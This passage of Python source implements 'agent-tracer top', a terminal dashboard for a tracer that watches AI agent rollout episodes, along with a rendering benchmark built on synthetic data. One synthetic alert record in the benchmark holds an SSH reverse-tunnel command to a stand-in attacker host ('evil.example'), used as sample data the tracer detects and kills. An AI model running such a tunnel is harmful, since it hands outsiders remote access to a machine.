    def __init__(self, client: Any, refresh: float, retry_s: float, out: Any) -> None:
        super().__init__(name="agent-tracer-top-subscription", daemon=True)
        self.client, self.refresh, self.retry_s, self.out = client, refresh, retry_s, out
        self.stop = threading.Event()
        self.current: Any = None

    def run(self) -> None:
        from .control import ControlError

        while not self.stop.is_set():
            detail = ""
            try:
                self.current = self.client.subscription(interval=self.refresh)
                if self.stop.is_set():
                    self.current.close()
                for msg in self.current:
                    if self.stop.is_set():
                        return
                    self.out.put(("msg", msg))
            except ControlError as exc:
                detail = getattr(exc, "detail", "") or str(exc)
            except (OSError, ValueError) as exc:
                detail = str(exc)
            finally:
                self.current = None
            if self.stop.is_set():
                return
            self.out.put(("down", detail, time.monotonic() + self.retry_s))
            self.stop.wait(self.retry_s)

    def close(self) -> None:
        self.stop.set()
        cur = self.current
        if cur is not None:
            cur.close()


def run_console(
    socket_path: str | Path,
    keys: Any,
    refresh: float = 1.0,
    console: Console | None = None,
    *,
    retry_s: float = 3.0,
    stop_event: threading.Event | None = None,
) -> int:
    """The interactive `agent-tracer top`: the dashboard with the keys of
    episode_tracer/topview.py, until `q` (returns 0) or `stop_event`.

    `keys` is a context manager whose ``read(timeout)`` returns the keys
    pressed (:class:`TerminalKeys` on a terminal). Snapshots and alerts come
    from a subscription read in a thread; actions (freeze, thaw, kill, the
    detail view) are requests on the control socket from this thread, and
    their result or error is shown on the footer line."""
    import queue
    import signal

    from .control import ControlClient, ControlError
    from .topview import Action, View, handle_key, sync, with_message

    console = console or Console()
    stop = stop_event or threading.Event()
    client = ControlClient(str(socket_path), timeout=5.0)
    inbox: queue.Queue = queue.Queue()
    sub = _Subscription(client, refresh, retry_s, inbox)
    view = View()
    snap: dict[str, Any] | None = None
    down: tuple[str, float] | None = None
    detail: dict[str, Any] | None = None
    detail_due = 0.0
    last_size: tuple[int, int] | None = None
    resized = threading.Event()
    old_winch = None
    try:
        old_winch = signal.signal(signal.SIGWINCH, lambda *_: resized.set())
    except (ValueError, OSError, AttributeError):      # not the main thread
        old_winch = None

    def fetch_detail(ep: str) -> None:
        nonlocal detail, detail_due, view
        detail_due = time.monotonic() + max(refresh, 0.5)
        try:
            detail = client.detail(ep)
        except ControlError as exc:
            detail = None
            view = with_message(view, f"detail {ep}: {exc}", ok=False)

    def act(action: Action) -> bool:
        nonlocal view
        if action.kind == "quit":
            return True
        if action.kind == "detail" and action.episode:
            fetch_detail(action.episode)
        elif action.kind == "command" and action.cmd and action.episode:
            try:
                reply = client.command(action.cmd, id=action.episode)
            except ControlError as exc:
                view = with_message(view, f"{action.cmd} {action.episode}: {exc}", ok=False)
            else:
                if reply.get("ok"):
                    view = with_message(view, str(reply.get("message") or f"{action.cmd} {action.episode}: ok"))
                else:
                    view = with_message(view, f"{action.cmd} {action.episode} failed: {reply.get('error')}", ok=False)
        return False

    sub.start()
    try:
        with keys, _Screen(console) as screen:
            dirty = True
            while not stop.is_set():
                while True:
                    try:
                        item = inbox.get_nowait()
                    except queue.Empty:
                        break
                    if item[0] == "down":
                        snap, down = None, (item[1], item[2])
                        dirty = True
                        continue
                    msg = item[1]
                    kind = msg.get("type")
                    down = None
                    if view.paused and snap is not None:
                        continue
                    if kind == "snapshot":
                        snap = msg
                        if view.screen == "main":
                            view = sync(view, snap)
                        dirty = True
                    elif kind == "alert" and snap is not None:
                        _apply_alert(snap, msg)
                        dirty = True
                want = view.confirm or (view.selected if view.screen == "detail" else None)
                if want and snap is not None and not view.paused and time.monotonic() >= detail_due:
                    fetch_detail(want)          # the detail view (or the kill prompt) stays current
                    dirty = True
                size = screen.size
                if size != last_size or resized.is_set():
                    resized.clear()
                    last_size = size
                    dirty = True
                if down is not None and snap is None:
                    left = down[1] - time.monotonic()
                    screen.show(render_waiting(str(socket_path), down[0], left, *size))
                elif dirty and snap is not None:
                    w, h = size
                    if view.page != max(1, h // 2):
                        view = dataclasses.replace(view, page=max(1, h // 2))
                    screen.show(render(snap, w, h, view, detail))
                    dirty = False
                for key in keys.read(min(0.1, refresh)):
                    view, action = handle_key(view, key, snap or {})
                    dirty = True
                    if action is not None and act(action):
                        return 0
    except KeyboardInterrupt:
        pass
    finally:
        sub.close()
        if old_winch is not None:
            try:
                signal.signal(signal.SIGWINCH, old_winch)
            except (ValueError, OSError):
                pass
    return 0


def run_inline(
    get_snapshot: Callable[[], dict],
    stop_event: threading.Event,
    refresh: float = 1.0,
    console: Console | None = None,
    *,
    max_iterations: int | None = None,
) -> None:
    """Show the dashboard in-process (``agent-tracer run``) until `stop_event` is set."""
    console = console or Console()
    frames = 0
    with _Screen(console) as screen:
        while True:
            w, h = screen.size
            try:
                renderable = render(get_snapshot(), w, h)
            except Exception as exc:   # the dashboard must never take the tracer down
                renderable = Panel(Text(f"dashboard error: {type(exc).__name__}: {exc}", style="red"))
            screen.show(renderable)
            frames += 1
            if max_iterations is not None and frames >= max_iterations:
                return
            if stop_event.wait(refresh):
                return


# ---------------------------------------------------------------------- CLI
@click.command("top")
@click.option("--socket", "socket_path", type=click.Path(dir_okay=False), default=str(paths.CONTROL_SOCKET),
              show_default=True, help="Control socket of the running tracer.")
@click.option("--refresh", type=click.FloatRange(min=0.05), default=1.0, show_default=True,
              help="Seconds between screen updates (alerts appear as they happen).")
def top_command(socket_path: str, refresh: float) -> None:
    """Live console of a running tracer: episodes, alerts, events/s, GPUs.

    Attaches to the tracer's control socket (root-only). If the tracer is not
    running yet, it waits and retries until Ctrl-C. On a terminal it takes keys:
    up/down (j/k) select, Enter episode detail, Esc back, f freeze, t thaw,
    K kill (y confirms), / filter, s sort, a alert list, p pause, ? help, q quit.

    \b
    Example:
        sudo agent-tracer top --refresh 0.5
    """
    import signal

    def _terminate(signum: int, frame: object) -> None:
        raise KeyboardInterrupt            # leave the alternate screen cleanly on SIGTERM/SIGHUP

    for sig in (signal.SIGTERM, signal.SIGHUP):
        try:
            signal.signal(sig, _terminate)
        except (ValueError, OSError):      # not the main thread
            pass
    import sys

    if sys.stdin.isatty() and sys.stdout.isatty():
        run_console(socket_path, TerminalKeys(sys.stdin.fileno()), refresh=refresh)
    else:                                  # piped: the screen only, no keys
        run_top(socket_path, refresh=refresh)


# ---------------------------------------------------------------------- benchmark
def synthetic_snapshot(n_episodes: int, n_alerts: int, now: float = 1_700_000_000.0) -> dict[str, Any]:
    """A realistic snapshot made by feeding a State with synthetic records."""
    return synthetic_state(n_episodes, n_alerts, now).snapshot(now=now)


def synthetic_state(n_episodes: int, n_alerts: int, now: float = 1_700_000_000.0) -> "State":
    """A State fed with synthetic records: `n_episodes` episodes (every 10th ended,
    every 3rd on a GPU), `n_alerts` alerts of mixed severity, 8 GPUs, 2 minutes of events."""
    from .state import State

    st = State(node="bench-node", mode="enforce", policy_version="bench", started=now - 3600, scope="episodes")
    st.observe({"type": "ready", "ts": now - 3600, "episode": None, "mode": "enforce", "scope": "episodes",
                "policy_version": "bench", "selftest": {"connect4": "ok", "sendmsg4": "ok", "exec-gate": "ok"}})
    st.observe({"type": "gpu_node", "ts": now, "episode": None, "gpus": [
        {"index": i, "name": "NVIDIA H100 80GB HBM3", "util": 40 + 7 * i, "mem_used_mib": 20000 + 5000 * i,
         "mem_total_mib": 81559, "power_w": 300 + 20 * i} for i in range(8)]})
    pid = 10_000
    for i in range(n_episodes):
        ep = f"rollout-{i:05d}"
        t = now - 3000 + i * (2900 / max(1, n_episodes))
        st.observe({"type": "episode_start", "ts": t, "episode": ep, "source": "cgroup",
                    "cgroup_path": f"/sys/fs/cgroup/agent-tracer/{ep}", "root_pid": pid})
        for k in range(3):
            st.observe({"type": "fork", "ts": t + 0.1, "episode": ep, "pid": pid, "tid": pid, "child_pid": pid + 1 + k})
            st.observe({"type": "exec", "ts": t + 0.2, "episode": ep, "pid": pid + 1 + k, "tid": pid + 1 + k,
                        "exe": "/usr/bin/python3", "argv": ["python3", "step.py"]})
        st.observe({"type": "connect", "ts": t + 0.3, "episode": ep, "pid": pid + 1, "addr": "10.0.0.1", "port": 443})
        if i % 3 == 0:
            st.observe({"type": "gpu", "ts": now - 0.5, "episode": ep, "pid": pid + 1, "gpu_index": i % 8,
                        "used_mib": 1000 + i, "sm_util": i % 100, "mem_util": 10})
        if i % 10 == 9:
            st.observe({"type": "episode_end", "ts": t + 50, "episode": ep, "exit_code": 0, "reason": "exited"})
        pid += 10
    sevs = SEVERITY_ORDER
    for j in range(n_alerts):
        ep = f"rollout-{(j * 7) % max(1, n_episodes):05d}" if n_episodes else None
        st.observe({"type": "alert", "ts": now - n_alerts + j, "episode": ep, "rule": f"rule-{j % 13}",
                    "severity": sevs[j % len(sevs)], "action": "kill" if j % 2 else "alert", "enforced": bool(j % 2),
                    "pid": 1234 + j, "exe": "/usr/bin/ssh", "argv": ["ssh", "-R", "9000:localhost:22", "evil.example"],
                    "matched": {"addr": "203.0.113.7", "port": 22}, "policy_version": "bench"})
    for s in range(120):
        for _ in range(50 + (s * 37) % 200):
            st.observe({"type": "socket", "ts": now - 120 + s + 0.5, "episode": None})
    st.observe({"type": "lost", "ts": now, "episode": None, "kind": "exec", "count": 3, "total": 3})
    return st


def measure_render(
    n_episodes: int = 1000,
    n_alerts: int = 200,
    repeats: int = 20,
    *,
    width: int = 200,
    height: int = 60,
) -> dict[str, Any]:
    """Time render() + the console rendering of its output for a synthetic snapshot.

    Returns {"n_episodes", "n_alerts", "repeats", "width", "height",
    "snapshot_ms" (State.snapshot for that state), "min_ms", "median_ms",
    "mean_ms", "max_ms", "p95_ms"}.
    """
    now = 1_700_000_000.0
    state = synthetic_state(n_episodes, n_alerts, now)
    t0 = time.perf_counter()
    snap = state.snapshot(now=now)
    snapshot_s = time.perf_counter() - t0
    console = Console(file=io.StringIO(), width=width, height=height, color_system="truecolor",
                      force_terminal=True, legacy_windows=False)
    times: list[float] = []
    for _ in range(max(1, repeats)):
        console.file = io.StringIO()
        t = time.perf_counter()
        console.print(render(snap, width, height))
        times.append((time.perf_counter() - t) * 1000)
    times.sort()
    return {
        "n_episodes": n_episodes,
        "n_alerts": n_alerts,
        "repeats": len(times),
        "width": width,
        "height": height,
        "snapshot_ms": snapshot_s * 1000,
        "min_ms": times[0],
        "median_ms": statistics.median(times),
        "mean_ms": statistics.fmean(times),
        "p95_ms": times[min(len(times) - 1, int(len(times) * 0.95))],
        "max_ms": times[-1],
    }

